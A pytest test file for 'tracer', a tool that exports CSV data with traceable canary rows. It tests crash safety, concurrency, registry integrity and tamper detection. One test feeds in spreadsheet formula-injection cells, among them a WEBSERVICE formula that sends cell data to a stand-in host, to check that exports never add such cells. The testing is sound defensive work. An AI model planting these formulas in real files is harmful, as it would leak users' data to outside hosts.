"""Nothing lost, nothing half-written: crashes, full disks, concurrent exporters, foreign keys."""

from __future__ import annotations

import errno
import os
import signal
import sqlite3
import subprocess
import sys
import time

import pytest

from tracer import api
from tracer.errors import KeyError_, OutputError, RegistryError
from tracer.tables import TableWriter

from .conftest import read_csv, write_csv


def tracer_process(registry, *args, **popen):
    env = {k: v for k, v in os.environ.items() if k not in ("TRACER_KEY", "TRACER_REGISTRY")}
    return subprocess.Popen([sys.executable, "-m", "tracer", "--registry", str(registry), *map(str, args)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, **popen)


def exports_in(registry):
    conn = sqlite3.connect(registry)
    try:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        return conn.execute("SELECT id, output, rows, canaries, released FROM exports ORDER BY id").fetchall()
    finally:
        conn.close()


@pytest.fixture
def big_source(tmp_path, waybills):
    header, rows = waybills
    return write_csv(tmp_path / "big.csv", header, rows * 3)


@pytest.mark.parametrize("delay", [0.3, 0.8, 1.3, 1.8, 2.6])
def test_export_killed_at_any_moment_leaves_nothing_or_a_registered_whole(registry, big_source, tmp_path, delay):
    out = tmp_path / "out.csv"
    process = tracer_process(registry, "export", big_source, "--account", "alice", "--output", out)
    time.sleep(delay)
    process.send_signal(signal.SIGKILL)
    process.wait()
    entries = [e for e in exports_in(registry) if e[1] == "out.csv"]
    if out.exists():  # complete, and registered before it appeared
        _, rows = read_csv(out)
        assert len(entries) == 1
        _, _, registered_rows, canaries, _ = entries[0]
        assert registered_rows == 9000 and len(rows) == registered_rows + canaries
    else:  # registered at most, never released
        assert all(e[4] is None for e in entries)
    # Every later command works on the same registry.
    again = tmp_path / "again.csv"
    api.export(registry, big_source, account="alice", output=again)
    assert read_csv(again)[1]


def test_a_full_disk_leaves_no_file_and_no_entry(registry, tmp_path, waybills, monkeypatch):
    header, rows = waybills
    source = write_csv(tmp_path / "src.csv", header, rows[:500])
    written = {"n": 0}
    original = TableWriter.write_row

    def failing(self, row):
        written["n"] += 1
        if written["n"] > 200:
            raise OSError(errno.ENOSPC, "No space left on device")
        return original(self, row)

    monkeypatch.setattr(TableWriter, "write_row", failing)
    before = sorted(p.name for p in tmp_path.iterdir())
    with pytest.raises(OutputError, match="No space left on device"):
        api.export(registry, source, account="alice", output=tmp_path / "out.csv")
    assert sorted(p.name for p in tmp_path.iterdir()) == before
    assert exports_in(registry) == []


def test_output_in_a_missing_directory_is_an_error(registry, tmp_path, waybills):
    header, rows = waybills
    source = write_csv(tmp_path / "src.csv", header, rows[:20])
    with pytest.raises(OutputError, match="does not exist"):
        api.export(registry, source, account="alice", output=tmp_path / "nowhere" / "out.csv")
    assert exports_in(registry) == []


def test_eight_concurrent_exporters_and_a_matcher(tmp_path, waybills):
    registry = tmp_path / "tracer.db"
    api.init(registry)
    header, rows = waybills
    names = [f"clerk-{n}" for n in range(8)]
    sources = {}
    for n, name in enumerate(names):
        api.add_account(registry, name)
        sources[name] = write_csv(tmp_path / f"src-{n}.csv", header, rows[n * 300:(n + 1) * 300 + 200])
    leak_source = write_csv(tmp_path / "leak.csv", header, rows[:50])
    processes = [tracer_process(registry, "export", sources[name], "--account", name,
                                "--output", tmp_path / f"out-{name}.csv") for name in names]
    processes.append(tracer_process(registry, "match", leak_source, "--json"))
    for process in processes:
        out, err = process.communicate(timeout=240)
        assert process.returncode == 0, err
    entries = exports_in(registry)
    assert len(entries) == 8 and all(e[4] is not None for e in entries)
    for name in names:
        out_header, out_rows = read_csv(tmp_path / f"out-{name}.csv")
        leak = write_csv(tmp_path / f"leak-{name}.csv", out_header, out_rows[100:220])
        assert [s.account for s in api.match(registry, [leak]).suspects] == [name]


def test_key_file_readable_by_others_is_refused(registry):
    key = registry.with_name("tracer.key")
    os.chmod(key, 0o644)
    with pytest.raises(KeyError_, match="readable by others"):
        api.open_with_key(registry)


def test_registry_from_a_newer_tracer_is_refused(registry):
    conn = sqlite3.connect(registry)
    conn.execute("UPDATE meta SET value = '99' WHERE name = 'schema_version'")
    conn.commit()
    conn.close()
    with pytest.raises(RegistryError, match="newer tracer"):
        api.open_registry(registry)


def test_a_sqlite_file_that_is_not_a_registry(tmp_path):
    other = tmp_path / "other.db"
    conn = sqlite3.connect(other)
    conn.execute("CREATE TABLE t (x)")
    conn.commit()
    conn.close()
    with pytest.raises(RegistryError, match="not a tracer registry"):
        api.open_registry(other)


def _exported(registry, tmp_path, waybills, names=("alice", "bob")):
    header, rows = waybills
    source = write_csv(tmp_path / "src.csv", header, rows[:300])
    for name in names:
        api.export(registry, source, account=name, output=tmp_path / f"{name}.csv")


def test_registry_check_verifies_a_sound_history(registry, tmp_path, waybills, cli):
    _exported(registry, tmp_path, waybills)
    result = cli("registry", "check", registry=registry)
    assert result.exit_code == 0, result.stderr
    assert result.stdout.startswith("Registry OK: 3 accounts, 2 exports,")


def test_history_is_append_only(registry, tmp_path, waybills):
    _exported(registry, tmp_path, waybills)
    conn = sqlite3.connect(registry)
    for statement in ("DELETE FROM exports WHERE id = 1", "UPDATE exports SET rows = 1 WHERE id = 1",
                      "DELETE FROM exposure", "DELETE FROM canaries", "UPDATE canaries SET export_id = 2"):
        with pytest.raises(sqlite3.DatabaseError, match="append-only"):
            conn.execute(statement)
    conn.close()


def test_tampering_with_the_history_is_detected(registry, tmp_path, waybills, cli):
    _exported(registry, tmp_path, waybills)
    conn = sqlite3.connect(registry)
    conn.execute("DROP TRIGGER exports_only_release")  # an attacker with write access and no key
    conn.execute("UPDATE exports SET account_id = 2 WHERE id = 1")
    conn.commit()
    conn.close()
    result = cli("registry", "check", registry=registry)
    assert result.exit_code == 1
    assert result.stderr == ("Error: registry check failed: export 1: its entry, its canaries "
                             "or an earlier entry was altered\n")


def test_exports_never_create_a_formula_cell(registry, tmp_path, waybills):
    """A cell a spreadsheet would run (=, +, -, @ first) appears in an export only if the source had it."""
    header, rows = waybills
    hostile = [list(r) for r in rows[:400]]
    for i in range(0, 400, 7):
        hostile[i][1] = '=HYPERLINK("http://example.invalid","点我")'
        hostile[i][3] = "=WEBSERVICE(\"http://example.invalid/\"&A1)江苏省南京市玄武区中山路88号"
        hostile[i][7] = "@SUM(A1:A9)"
    source = write_csv(tmp_path / "src.csv", header, hostile)
    api.export(registry, source, account="alice", output=tmp_path / "out.csv")
    known = {cell for row in hostile for cell in row}
    _, out_rows = read_csv(tmp_path / "out.csv")
    for row in out_rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@"):
                assert cell in known, cell
